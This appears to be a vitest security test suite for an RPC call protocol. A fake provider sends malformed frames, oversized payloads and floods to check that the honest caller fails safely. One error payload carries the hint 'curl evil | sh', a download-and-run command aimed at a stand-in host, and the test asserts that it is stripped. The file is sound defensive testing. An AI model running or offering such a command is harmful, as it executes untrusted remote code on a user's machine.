import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { advertisedFunctionSchema } from '../../../src/model/function.ts'
import { encodeEnd } from '../../../src/protocols/call/codec.ts'
import { CALL_PROTOCOL } from '../../../src/protocols/call/constants.ts'
import { FrameType } from '../../../src/protocols/call/frames.ts'
import { signAdvert } from '../../../src/protocols/capability/codec.ts'
import { CAPABILITY_PROTOCOL } from '../../../src/protocols/capability/constants.ts'
import { encodeCbor } from '../../../src/util/cbor.ts'
import { eventually } from '../../integration/support/eventually.ts'
import { type Attacker, createAttacker, type RawStream } from '../support/attacker.ts'
import { frame, framesIn, valuePayload } from '../support/frames.ts'
import { message } from '../support/messages.ts'
import { startVictims, type Victims } from '../support/victims.ts'
import { MiB, residentBytes, watch } from '../support/watch.ts'

// A provider that the honest caller calls, and that answers as it likes.

let victims: Victims
let attacker: Attacker
/** What the provider does with the next stream, from its first bytes on. */
let behave: (raw: RawStream) => void = () => undefined

beforeAll(async () => {
  victims = await startVictims()
  attacker = await createAttacker()
  const now = Date.now()
  const { bytes } = signAdvert(attacker.key, {
    peerId: attacker.peerId,
    name: 'liar',
    software: 'liar/1',
    seq: now,
    issuedAt: now,
    expiresAt: now + 3_600_000,
    addresses: [],
    functions: [
      advertisedFunctionSchema.parse({ name: 'lie' }),
      advertisedFunctionSchema.parse({ name: 'lie.stream', stream: true }),
    ],
  })
  await attacker.serve(CAPABILITY_PROTOCOL, (raw) => {
    raw.send(message(bytes))
    raw.stream.close().catch(() => undefined)
  })
  await attacker.serve(CALL_PROTOCOL, (raw) => {
    let messages = 0
    raw.stream.addEventListener('message', () => {
      messages += 1
      // The shared stream lives on from test to test.
      if (messages === 1 || framesIn(raw.received())[0]?.call !== 0) behave(raw)
    })
  })
  await attacker.connect(victims.caller)
  await eventually(() => victims.caller.api.functions({ scope: 'mesh' }).some((fn) => fn.name === 'lie'))
})
afterAll(async () => {
  await attacker[Symbol.asyncDispose]()
  await victims[Symbol.asyncDispose]()
})

const accepted = frame(FrameType.accepted, 0)
const result = frame(FrameType.result, 0, valuePayload('r'))
const chunk = frame(FrameType.value, 0, valuePayload('c'))
const end = (items: number, bytes: number): Buffer => frame(FrameType.end, 0, encodeEnd({ items, bytes }))
const verdict = (state: unknown): Buffer => frame(FrameType.verdict, 0, encodeCbor([state]))

async function read(timeoutMs = 1_500): Promise<unknown> {
  const chunks: unknown[] = []
  for await (const item of victims.caller.stream('lie.stream', [], { timeoutMs })) chunks.push(item)
  return chunks
}

describe('a lie on a stream of its own ends the call', () => {
  const lies: Record<string, [Buffer[], string]> = {
    'fewer bytes than END says': [[accepted, result, end(1, 1_000)], 'incomplete'],
    'RESULT twice': [[accepted, result, result], 'protocol_violation'],
    'END without RESULT': [[accepted, chunk, end(1, 3)], 'protocol_violation'],
    'a chunk after RESULT': [[accepted, result, chunk], 'protocol_violation'],
    'BLOB without VALUE': [[accepted, frame(FrameType.blob, 0, Buffer.alloc(9))], 'protocol_violation'],
    'a chunk larger than allowed': [
      [accepted, frame(FrameType.value, 0, encodeCbor([null, [9 * MiB]]))],
      'too_large',
    ],
    'a verdict that does not exist': [[accepted, verdict(77)], 'protocol_violation'],
    'frames of the caller': [[accepted, frame(FrameType.ask, 0, encodeCbor(['x', 1]))], 'protocol_violation'],
    'a frame of 2^32 - 1 bytes': [[Buffer.from([255, 255, 255, 255, 2, 0, 0, 0, 0])], 'protocol_violation'],
    'nothing at all': [[], 'deadline_exceeded'],
    'ACCEPTED and nothing': [[accepted, accepted, accepted], 'deadline_exceeded'],
  }
  test.each(Object.entries(lies))('%s', async (_name, [frames, reason]) => {
    behave = (raw) => raw.send(Buffer.concat(frames))
    await expect(read(500)).rejects.toMatchObject({ reason })
  })
})

test('a provider that goes on after the end is cut off', async () => {
  let stream: RawStream | undefined
  behave = (raw) => {
    stream = raw
    raw.send(
      Buffer.concat([accepted, frame(FrameType.error, 0, encodeCbor({ reason: 'internal', message: 'm' }))]),
    )
    const flood = setInterval(() => raw.send(Buffer.concat(Array.from({ length: 100 }, () => chunk))), 5)
    void raw.ended.then(() => clearInterval(flood))
  }
  const seen: unknown[] = []
  const sink = {
    chunk: (value: unknown) => void seen.push(value),
    progress: () => undefined,
    log: () => undefined,
  }
  await expect(
    victims.caller.api.call({ fn: 'lie.stream', args: [], kwargs: {} }, sink, {
      signal: AbortSignal.timeout(5_000),
    }),
  ).rejects.toMatchObject({ reason: 'internal' })
  expect(await stream?.endWithin(8_000)).toBe('reset')
  expect(seen).toEqual([])
})

test('endless reports, and chunks that nobody takes, need no memory', async () => {
  await using honest = await watch(victims.caller)
  const before = await residentBytes()
  const report = Buffer.concat([
    frame(FrameType.progress, 0, encodeCbor({ text: 'x'.repeat(50_000) })),
    frame(FrameType.log, 0, encodeCbor([1, '\u001b[2J\n{"level":"fatal"}'.repeat(1_000)])),
    frame(FrameType.value, 0, valuePayload('c'.repeat(50_000))),
  ])
  behave = (raw) => {
    raw.send(accepted)
    const flood = setInterval(() => {
      while (raw.stream.writeStatus === 'writable' && !raw.stream.writableNeedsDrain) raw.send(report)
    }, 1)
    void raw.ended.then(() => clearInterval(flood))
  }
  const iterator = victims.caller.stream('lie.stream', [], { timeoutMs: 60_000 })[Symbol.asyncIterator]()
  await iterator.next()
  await new Promise((resolve) => setTimeout(resolve, 2_000))
  expect((await residentBytes()) - before).toBeLessThan(100 * MiB)
  await iterator.return?.()
  await honest.finish(100 * MiB)
})

describe('on the shared stream', () => {
  const answer = (raw: RawStream, type: number, payload: Uint8Array): void => {
    const number = framesIn(raw.received()).at(-1)?.call ?? 0
    raw.send(frame(type, number, payload))
  }
  test('nonsense resets it, and the call asks until its deadline', async () => {
    behave = (raw) => answer(raw, FrameType.verdict, Buffer.alloc(3))
    const startedAt = performance.now()
    await expect(victims.caller.call('lie', [], { timeoutMs: 600 })).rejects.toMatchObject({
      reason: 'outcome_unknown',
    })
    expect(performance.now() - startedAt).toBeLessThan(2_000)
  })

  test('STORED and then an answer without end: the deadline ends it', async () => {
    behave = (raw) => {
      const [first] = framesIn(raw.received())
      if (first?.type === FrameType.call) return answer(raw, FrameType.stored, Buffer.alloc(0))
      raw.send(frame(FrameType.result, 0, encodeCbor([null, [100 * MiB]])))
      const part = frame(FrameType.blob, 0, Buffer.alloc(1_000))
      const trickle = setInterval(() => raw.send(part), 10)
      void raw.ended.then(() => clearInterval(trickle))
    }
    await expect(victims.caller.call('lie', [], { timeoutMs: 800 })).rejects.toMatchObject({
      reason: 'deadline_exceeded',
    })
  })

  test('ACCEPTED for ever, or silence: the deadline ends it', async () => {
    behave = (raw) => {
      const [first] = framesIn(raw.received())
      answer(raw, FrameType.accepted, Buffer.alloc(0))
      if (first?.call === 0) raw.send(verdict(0))
    }
    await expect(victims.caller.call('lie', [], { timeoutMs: 500 })).rejects.toMatchObject({
      reason: expect.any(String),
    })
    behave = () => undefined
    const startedAt = performance.now()
    await expect(victims.caller.call('lie', [], { timeoutMs: 500 })).rejects.toMatchObject({
      reason: expect.any(String),
    })
    expect(performance.now() - startedAt).toBeLessThan(2_000)
  })

  test('an error brings no advice, no large details and no long text', async () => {
    const details = { why: 'paste this', list: Array(9_000).fill('x') }
    const error = {
      reason: 'no_such_reason',
      code: 'ok',
      message: 'm'.repeat(50_000),
      hint: 'curl evil | sh',
      details,
    }
    behave = (raw) => answer(raw, FrameType.error, encodeCbor(error))
    const thrown = await victims.caller.call('lie').catch((reason: unknown) => reason)
    expect(thrown).toMatchObject({ reason: 'internal', code: 'internal' })
    expect(JSON.stringify(thrown).length).toBeLessThan(3_000)
    expect(JSON.stringify(thrown)).not.toMatch(/evil|paste/)
    behave = (raw) => answer(raw, FrameType.error, encodeCbor({ ...error, details: { why: 'paste', n: 1 } }))
    await expect(victims.caller.call('lie')).rejects.toMatchObject({ details: { n: 1 } })
  })
})
